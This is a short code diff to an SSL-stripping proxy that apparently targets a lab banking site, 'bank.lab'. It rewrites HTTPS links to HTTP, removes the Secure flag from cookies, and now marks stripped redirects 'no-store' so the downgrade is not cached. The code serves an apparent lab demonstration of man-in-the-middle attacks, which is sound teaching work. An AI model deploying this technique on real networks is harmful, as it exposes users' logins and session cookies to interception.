@@ -87,6 +87,10 @@ export async function startSslstripProxy(params: StartSslstripProxyParams): Prom
         const rewritten = stripHttpsLinks(value)
         rewritten.stripped.forEach((url) => stripped.add(url))
         response.setHeader(name, rewritten.text)
+        // The bank's 301 http://bank.lab/ → https://bank.lab/ becomes a redirect to itself: a browser caches a 301
+        // (RFC 9111 §4.2.2, heuristically fresh) and would loop on it from its cache; the next request is the one
+        // the attacker answers over TLS itself, so the rewritten redirect must not be stored.
+        if (rewritten.stripped.length > 0) response.setHeader('cache-control', 'no-store')
       } else if (isAttacking && name === 'set-cookie' && Array.isArray(value)) {
         response.setHeader(name, value.map(stripSecureFlag))
       } else response.setHeader(name, value)
